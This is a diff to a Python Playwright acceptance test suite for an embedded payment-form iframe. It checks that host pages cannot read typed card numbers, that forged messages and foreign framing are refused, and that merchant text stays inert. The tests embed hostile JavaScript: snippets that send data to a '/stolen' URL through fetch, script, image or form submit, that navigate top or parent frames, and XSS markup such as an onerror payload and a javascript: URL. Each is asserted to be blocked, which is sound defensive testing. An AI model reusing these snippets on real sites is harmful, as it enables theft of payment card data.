@@ -4,14 +4,14 @@ from __future__ import annotations
 
 from typing import Any
 
-from playwright.sync_api import Frame, Page, expect
+from playwright.sync_api import Page, expect
 
 from tests.acceptance.browsers import Windows
 from tests.acceptance.conftest import NewMerchant
-from tests.acceptance.forms import CARD, CODE, DESKTOP, Form, FormShop, Opened, confirm, forgive
+from tests.acceptance.forms import CARD, CODE, DESKTOP, Form, FormShop, Opened, confirm, forgive, wait_in, window_of
 from tests.acceptance.merchant import Merchant, payment_of
 from tests.acceptance.payer import link_of
-from tests.acceptance.system import System, until
+from tests.acceptance.system import System
 from tollhouse.sandbox.cards import compose
 
 # Listens to everything before the form's script is there, and sits between both ends of every channel.
@@ -39,7 +39,8 @@ GRABBING = """() => {
     contentDocument: () => frame.contentDocument, document: () => inside.document, frames: () => frames[0].document,
     address: () => inside.location.href, function: () => inside.fetch, storage: () => inside.localStorage,
     name: () => inside.name, find: () => inside.find("4242"), selection: () => String(inside.getSelection()),
-    own: () => String(getSelection()), bait: () => [...document.querySelectorAll("input")].map((one) => one.value).join(""),
+    own: () => String(getSelection()),
+    bait: () => [...document.querySelectorAll("input")].map((one) => one.value).join(""),
     define: () => { inside.fetch = () => 1; return "done"; },
   };
   return Object.fromEntries(Object.entries(tries).map(([name, get]) => {
@@ -91,21 +92,24 @@ addEventListener("message", ({ source }) => {
   channel.port1.postMessage({type: "begin", token: "TOKEN", options: {}});
 });
 </script>"""
-LEAVING = """() => {
-  const outside = "http://localhost:9/?stolen", tries = {
+FRAMING = '<!doctype html><title>x</title><link rel="icon" href="data:,"><iframe src="{}"></iframe>'
+LEAVING = """(outside) => {
+  const tries = {
     top: () => { top.location.href = outside; }, parent: () => { parent.location.replace(outside); },
     open: () => { if (open(outside)) throw new Error("opened"); throw new TypeError("blocked"); },
     page: () => parent.document.title, html: () => { document.body.innerHTML = "<b>x</b>"; },
     script: () => { document.createElement("script").src = outside; },
     text: () => { document.createElement("script").textContent = "1"; }, code: () => setTimeout("1"),
-    eval: () => (0, eval)("1"), worker: () => new Worker("data:,1"), policy: () => trustedTypes.createPolicy("x", {}),
+    worker: () => new Worker("data:,1"), policy: () => trustedTypes.createPolicy("x", {}),
   };
   return Object.fromEntries(Object.entries(tries).map(([name, run]) => {
     try { run(); return [name, "done"]; } catch (error) { return [name, error.name]; }
   }));
 }"""
-SENDING = """async () => {
-  const outside = "http://localhost:9/?stolen", done = [];
+SENDING = """async (outside) => {
+  const done = [];
+  // Later: while the driver runs a script, the page's policy lets it evaluate.
+  await new Promise((settle) => setTimeout(() => { try { eval("1"); done.push("eval"); } catch { settle(); } }));
   await fetch(outside, {mode: "no-cors"}).then(() => done.push("fetch"), () => 0);
   const load = (element, name) => new Promise((settle) => {
     element.onload = () => { done.push(name); settle(); };
@@ -122,15 +126,6 @@ SENDING = """async () => {
   form.submit();
   return done;
 }"""
-
-
-def inside(page: Page) -> Frame:
-    """The form's own window, for a test that stands in it."""
-    found = page.locator("#smgl-payment-form iframe").element_handle()
-    assert found is not None
-    frame = found.content_frame()
-    assert frame is not None
-    return frame
 
 
 def test_the_page_cannot_read_what_is_typed(shop: Merchant, form_shop: FormShop, windows: Windows) -> None:
@@ -168,6 +163,7 @@ def test_forged_messages_from_the_page(shop: Merchant, form_shop: FormShop, wind
     assert form.page.evaluate("() => window.second") == []
     assert [one[0] for one in form.told()] == ["ready", "start", "success"]
     assert shop.status(other_id)["status"] == "created"
+    forgive(windows, "Payment form: ")
 
 
 def test_forged_messages_from_another_frame(shop: Merchant, form_shop: FormShop, windows: Windows) -> None:
@@ -180,18 +176,14 @@ def test_forged_messages_from_another_frame(shop: Merchant, form_shop: FormShop,
     form.pay()
     confirm(shop, session_id)
     form.expect_stage("succeeded")
-    handle = page.locator("#beside").element_handle()
-    assert handle is not None
-    advertisement = handle.content_frame()
-    assert advertisement is not None
-    assert advertisement.evaluate("() => window.heard") == []
+    assert window_of(page.locator("#beside")).evaluate("() => window.heard") == []
     assert [one[0] for one in form.told()] == ["ready", "start", "success"]
 
 
 def test_only_named_origins_frame_the_form(
     system: System, form_shop: FormShop, windows: Windows, new_merchant: NewMerchant
 ) -> None:
-    """With `widget_origins` another origin's page shows no form, by our script or without, nor around the right page."""
+    """With `widget_origins` another origin's page shows no form: by our script, without it, around the right page."""
     merchant = new_merchant(system, settings={"widget_origins": form_shop.url})
     session_id, token = merchant.open_form()
     address = form_shop.set_up(token)
@@ -206,7 +198,7 @@ def test_only_named_origins_frame_the_form(
         page = windows.open()
         page.clock.install()
         page.goto(form_shop.elsewhere(foreign))
-        until(lambda page=page: refused(page), f"{foreign} is refused")  # type: ignore[misc]
+        expect_refused(page)
         assert not any(frame.locator("[data-testid=form-number]").count() for frame in page.frames)
         page.clock.fast_forward(16_000)
         if foreign == address:
@@ -218,9 +210,9 @@ def test_only_named_origins_frame_the_form(
     forgive(windows, "frame-ancestors", "could not be loaded", "ERR_BLOCKED_BY_RESPONSE")
 
 
-def refused(page: Page) -> bool:
-    """Whether Chromium has put its own page in place of a frame that may not be there."""
-    return any(frame.url.startswith("chrome-error:") for frame in page.frames)
+def expect_refused(page: Page) -> None:
+    """Chromium has put its own page in place of a frame that may not be there."""
+    wait_in(page, lambda: any(frame.url.startswith("chrome-error:") for frame in page.frames), "it is refused")
 
 
 def test_only_named_origins_frame_the_payers_page(
@@ -235,10 +227,9 @@ def test_only_named_origins_frame_the_payers_page(
     confirm(merchant, session_id)
     link = link_of(merchant.receiver.wait_for(session_id, "action_required")[-1].session)
     for address, is_foreign in ((f"{link}?in=dialog", True), (link, True), (link, False)):
-        text = f'<!doctype html><title>x</title><link rel=icon href=data:,><iframe src="{address}"></iframe>'
-        framing = form_shop.add(text)
+        framing = form_shop.add(FRAMING.format(address))
         page = windows.open(form_shop.elsewhere(framing) if is_foreign else framing)
-        until(lambda page=page: refused(page), f"{address} is refused")  # type: ignore[misc]
+        expect_refused(page)
     forgive(windows, "frame-ancestors", "ERR_BLOCKED_BY_RESPONSE", "X-Frame-Options")
 
 
@@ -306,10 +297,10 @@ def test_overlays_by_appearance(shop: Merchant, opened: Opened, windows: Windows
     form.page.on("console", lambda message: warnings.append(message.text))
     form.page.evaluate("given => form.update(given)", {"appearance": {"rules": OVERLAYS, "variables": VARIABLES}})
     wanted = [f"rule {name}:" for name in OVERLAYS] + [f"variable {name}:" for name in VARIABLES]
-    until(lambda: all(any(one in said for said in warnings) for one in wanted), "each is refused by name")
+    wait_in(form.page, lambda: all(any(one in said for said in warnings) for one in wanted), "each is refused by name")
     for name in ("opacity", "position", "display", "background", "font-size", "content", "transform"):
         assert any(name in said for said in warnings), name
-    assert not any("localhost:9" in said for said in warnings), "values are not repeated"
+    assert not any("inset(" in said for said in warnings), "values are not repeated"
     expected = ["1", "static", "visible", "auto", "none", "none", True, True, True, True]
     for name in ("number", "expiry", "code", "holder", "submit"):
         assert form.field(name).evaluate(SHOWN) == expected, name
@@ -322,19 +313,20 @@ def test_overlays_by_appearance(shop: Merchant, opened: Opened, windows: Windows
 def test_no_way_out_of_the_frame(opened: Opened, form_shop: FormShop, windows: Windows) -> None:
     """Even a script in the form's own frame could not lead the page away, make scripts, or send the card elsewhere."""
     _, form = opened()
-    address, asked = form.page.url, list[str]()
-    form.page.on("request", lambda request: asked.append(request.url))
-    frame = inside(form.page)
-    tried: dict[str, str] = frame.evaluate(LEAVING)
+    address, outside = form.page.url, f"{form_shop.url}/stolen"
+    frame = form.inside
+    tried: dict[str, str] = frame.evaluate(LEAVING, outside)
     assert {name for name, end in tried.items() if end == "done"} == set(), tried
-    assert frame.evaluate(SENDING) == []
-    assert [url for url in asked if "stolen" in url] == []
+    assert frame.evaluate(SENDING, outside) == []
     assert form.page.url == address
     assert form.page.context.pages == [form.page]
+    assert [visit for visit in form_shop.visits if "stolen" in visit] == []
+    for policy in ("connect-src", "img-src", "form-action", "TrustedScript", "allow-top-navigation", "allow-popups"):
+        wait_in(form.page, lambda said=policy: any(said in one for one in windows.problems), f"{policy} stopped it")  # type: ignore[misc]
     windows.problems.clear()
 
 
-MARKUP = "<img src=x onerror='top.pwned=1'><script>top.pwned=1</script>\"><b>&amp;"
+MARKUP = "<img src onerror=top.pwned=1>\"'<b>&amp;"
 
 
 def test_markup_stays_text(system: System, form_shop: FormShop, windows: Windows, new_merchant: NewMerchant) -> None:
@@ -343,14 +335,16 @@ def test_markup_stays_text(system: System, form_shop: FormShop, windows: Windows
     names = ("buttonPayLabel", "cardholderLabel", "cardNumberLabel", "cvvLabel", "expireDateLabel", "recurrentLabel")
     words: dict[str, Any] = {name: f"{name} {MARKUP}" for name in names}
     words |= {"termsAgreement": "I agree {{#link}}" + MARKUP + "{{/link}}", "termsUrl": "javascript:top.pwned=1"}
-    _, token = merchant.open_form(payment_options={"recurrent": {"status": True}})
+    _, token = merchant.open_form(show_recurrent_checkbox=True)
     texts = {"paymentForm": words}
     # In a page of its own the merchant's text is the merchant's matter: here it comes to the form by script.
     form = Form(windows.open(form_shop.set_up(token)))
     page = form.page
     page.evaluate(
-        """([token, texts]) => { form.destroy(); window.form = new SmglPaymentForm(token,
-             {container: "#smgl-payment-form", texts}); form.render(); }""",
+        """([token, texts]) => {
+             form.destroy();
+             new SmglPaymentForm(token, {container: "#smgl-payment-form", texts}).render();
+        }""",
         [token, texts],
     )
     form.expect_stage("ready")
